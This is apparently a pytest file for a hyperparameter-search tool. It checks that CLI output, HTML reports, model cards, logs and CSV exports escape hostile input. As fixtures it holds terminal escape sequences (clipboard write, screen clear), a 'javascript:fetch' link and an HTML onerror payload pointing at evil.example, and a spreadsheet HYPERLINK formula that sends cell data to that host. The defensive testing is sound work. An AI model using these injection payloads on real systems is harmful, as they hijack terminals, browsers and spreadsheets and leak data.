"""A study whose worker wrote escape sequences, scripts and formulas: no output executes them."""

from __future__ import annotations

import csv
import io
import logging
import re
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any
from wsgiref.util import setup_testing_defaults

import pytest
import sqlalchemy as sa
from google.protobuf import json_format
from mlflow.protos.service_pb2 import GetExperiment
from optuna.distributions import CategoricalDistribution
from optuna.trial import TrialState, create_trial
from rich.live import Live
from rich.text import Text

from hpsearch.search.api.study import Study
from hpsearch.search.cli import run_command
from hpsearch.search.console import PlainConsole, log_to_stderr, plain_table, show_steps
from hpsearch.search.error_lines import report_errors
from hpsearch.search.errors import SearchError
from hpsearch.search.promotion.evidence import Evidence
from hpsearch.search.promotion.model_card import describe_evidence
from hpsearch.search.report import write_report
from hpsearch.search.study.study import StoredStudy
from hpsearch.search.study.summary import summarise
from hpsearch.search.tracking.study_run import study_note
from hpsearch.storage import dashboard
from hpsearch.storage.attributes import ORIGIN, PRUNING, REASON, RUN_URL, STOPPED, TRACKING, WORKER
from hpsearch.storage.database.connect import make_engine
from hpsearch.storage.study_storage.storage import open_storage
from tests.search.finalists.support import search

# Sets the title, clears the screen, writes to the clipboard, and hides what follows.
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;bHM=\x07\x9b8m"
SHOWN = r"\x1b]0;owned\x07\x1b[2J\x1b]52;c;bHM=\x07\u009b8m"
SCRIPT = "javascript:fetch('//evil.example')"
HTML = "<img src=x onerror=alert(1)>"
NAME, VALUE = f"lr{TERMINAL}", f"[x]({SCRIPT}){HTML}`{TERMINAL}"


@pytest.fixture
def study(database_url: str) -> StoredStudy:
    space = {NAME: CategoricalDistribution((VALUE,))}
    line = f"{TERMINAL}\nnext: forged"
    attrs = {REASON: line + HTML, WORKER: line, ORIGIN: line, TRACKING: line, RUN_URL: SCRIPT, PRUNING: "epoch"}
    made = {"params": {NAME: VALUE}, "distributions": space, "user_attrs": attrs}
    trials = [create_trial(value=0.5, **made), create_trial(state=TrialState.FAIL, **made)]  # type: ignore[arg-type]
    found = search(open_storage(database_url, application_name="test"), "s", trials)
    found.set_attr(RUN_URL, SCRIPT)
    found.set_attr(STOPPED, line)
    return found


@pytest.mark.parametrize(
    "command",
    [
        ("show", "s"),
        ("show", "s", "--trial", "1"),
        ("top", "s", "--once"),
        ("top", "s", "--json"),
        ("studies",),
        ("stop", "s"),
        ("start", "s"),
    ],
)
def test_commands_print_visible_escapes(
    study: StoredStudy, database_url: str, capsys: pytest.CaptureFixture[str], command: tuple[str, ...]
) -> None:
    assert run_command([*command, "--storage-url", database_url]) == 0
    output = capsys.readouterr().out
    assert not {"\x1b", "\x07", "\x9b"} & set(output)
    assert "\nnext: forged" not in output
    assert "\\n    hpsearch" not in output, "a command is a line of its own"
    assert command == ("studies",) or r"\x1b]0;owned" in output or r"\u001b]0;owned" in output


def test_a_live_view_on_a_terminal_moves_the_cursor_and_escapes_texts() -> None:
    file = io.StringIO()
    console = PlainConsole(file=file, force_terminal=True, width=200, soft_wrap=False)
    table = plain_table(TERMINAL)
    table.add_row(TERMINAL)
    table.add_row(Text(TERMINAL, style="red"))
    with Live(table, console=console, auto_refresh=False) as live:
        live.update(table, refresh=True)
        console.print(TERMINAL, style="yellow")
    drawn = file.getvalue()
    assert "\x1b[?25l" in drawn, "rich hides the cursor"
    assert "\x1b[31m" in drawn, "styles stay"
    assert SHOWN in drawn
    assert not any(sequence in drawn for sequence in ("\x1b]", "\x1b[2J", "\x07", "\x9b"))


def test_the_report_has_no_script_links_and_no_control_characters(study: StoredStudy, tmp_path: Path) -> None:
    page = write_report(study, tmp_path / "report.html", dashboard_url=None).read_text()
    assert "href=" not in page
    assert "<img" not in page
    assert not {"\x1b", "\x07", "\x9b"} & set(page)
    assert r"\x1b]0;owned\x07" in page


def test_the_note_has_no_script_links_and_no_html(study: StoredStudy) -> None:
    note = study_note(study, summarise(study))
    assert not {"\x1b", "\x07", "\x9b"} & set(note)
    assert "](java" not in note.replace(r"\](java", "")
    assert "<" not in note
    assert "Best: trial 0," in note
    study.set_attr(RUN_URL, "http://127.0.0.1:5000/#/a) <b>")
    assert "[The study in MLflow](http://127.0.0.1:5000/#/a%29%20%3Cb%3E);" in study_note(study, summarise(study))


@pytest.mark.parametrize("weights_only", ["", VALUE], ids=["exported", "checkpoint"])
def test_a_model_card_has_no_script_links_and_no_html(weights_only: str) -> None:
    params = {NAME: VALUE}
    card = describe_evidence(
        Evidence(
            HTML, 1, 0, "run", SCRIPT, 1, HTML, 0.5, "", params, None, 7, HTML, True, HTML, None, None, HTML,
            weights_only, "id", HTML,
            {"of": 0, "search": HTML, "epochs": 2, "seeds": [1], "losses": [0.5], "taken": 0},
            "Points.export`<b>",
        ),
        address="models:/a`<b>/1",
    )  # fmt: skip
    assert not {"\x1b", "\x07", "\x9b"} & set(card)
    assert "](java" not in card.replace(r"\](java", "")
    for call in ('hpsearch.load_model("a\'<b>/1")', 'mlflow.pytorch.load_model("models:/a\'<b>/1")'):
        assert (call in card) is (not weights_only)
        card = card.replace(f"`{call}`", "")
    if not weights_only:
        assert "It is the module that `Points.export'<b>` returned, not the trained model." in card
        card = card.replace("`Points.export'<b>`", "")
    assert "<" not in card


def test_the_python_api_escapes_texts_and_returns_web_addresses_only(study: StoredStudy, database_url: str) -> None:
    opened = Study.open("s", storage_url=database_url)
    assert "mlflow" not in opened.urls
    for text in (opened.describe_trial(1), opened._repr_html_()):
        assert not {"\x1b", "\x07", "\x9b"} & set(text)
    assert SHOWN in opened.describe_trial(1)


def test_steps_contain_no_markup() -> None:
    """A restore shows names of tables from the backup."""
    output = io.StringIO()
    for is_terminal in (True, False):
        with show_steps(PlainConsole(file=output, force_terminal=is_terminal, width=200)) as show_step:
            show_step(f"the table [link=http://evil.example]x[/link] {TERMINAL}")
            show_step("[/x]")
    assert "\x1b]8" not in output.getvalue()
    assert "\x1b]0" not in output.getvalue()
    assert "[link=http://evil.example]x[/link]" in output.getvalue()


def test_replies_with_other_types_than_those_of_mlflow_are_no_fault_of_hpsearch(
    capsys: pytest.CaptureFixture[str],
) -> None:
    def parse() -> int:
        json_format.ParseDict({"experiment": {"experiment_id": 5, "name": 7}}, GetExperiment.Response())
        return 0

    assert report_errors(parse) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "the tracking server does not answer as MLflow does" in line


def test_error_lines_and_log_lines_are_escaped(capsys: pytest.CaptureFixture[str], database_url: str) -> None:
    def fail() -> int:
        raise SearchError(f"objective {TERMINAL}\nhpsearch: done")

    def query() -> int:
        with make_engine(database_url, application_name="test").connect() as connection:
            connection.execute(sa.text("SELECT CAST(:text AS integer)"), {"text": TERMINAL})
        return 0

    assert report_errors(fail) == 2
    assert capsys.readouterr().err == rf"hpsearch: objective {SHOWN}\nhpsearch: done" + "\n"
    assert report_errors(query) == 2
    assert re.fullmatch(rf"hpsearch: the database rejected .*{re.escape(SHOWN)}.*\n", capsys.readouterr().err)
    log_to_stderr(logging.INFO)
    logging.getLogger("test").warning("trial 7: %s", TERMINAL)
    assert capsys.readouterr().err.endswith(f" WARNING trial 7: {SHOWN}\n")


def test_a_limit_of_threads_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    before = threading.stack_size(2**47)  # larger than the address space
    try:
        assert report_errors(lambda: threading.Thread(target=print).start() or 0) == 1
    finally:
        threading.stack_size(before)
    assert capsys.readouterr().err.startswith("hpsearch: no thread can be started; raise the limits")


def test_the_traceback_of_an_internal_error_and_its_warnings_are_escaped() -> None:
    code = """if True:
        import logging, sys
        from hpsearch.search import cli
        def fail(_):
            logging.getLogger("test").warning(sys.argv[1])
            raise RuntimeError(sys.argv[1])
        cli.run_command = fail
        cli.main()
    """
    ended = subprocess.run([sys.executable, "-c", code, TERMINAL], capture_output=True, text=True, check=False)
    assert ended.returncode == 1
    assert ended.stderr.startswith(f"{SHOWN}\nTraceback")
    assert ended.stderr.endswith(f"RuntimeError: {SHOWN}\n")


def test_the_csv_file_of_the_dashboard_has_no_formulas(study: StoredStudy, database_url: str) -> None:
    formula = '=HYPERLINK("http://evil.example/"&A1)'
    study.storage.import_trials(study.study_id, [create_trial(value=-0.5, user_attrs={"note": formula, "n": -3})])
    rows = list(csv.DictReader(io.StringIO(_get(dashboard._make_app(database_url, None), f"/csv/{study.study_id}"))))
    assert [row["Value"] for row in rows] == ["0.5", "", "-0.5"]
    assert rows[2]["UserAttribute note"] == f"'{formula}"
    assert rows[2]["UserAttribute n"] == "-3"
    assert rows[0][f"UserAttribute {WORKER}"] == f"{SHOWN}\nnext: forged"


def _get(app: Any, path: str) -> str:
    environ: dict[str, Any] = {"PATH_INFO": path}
    setup_testing_defaults(environ)
    return b"".join(app(environ, lambda *_: None)).decode()
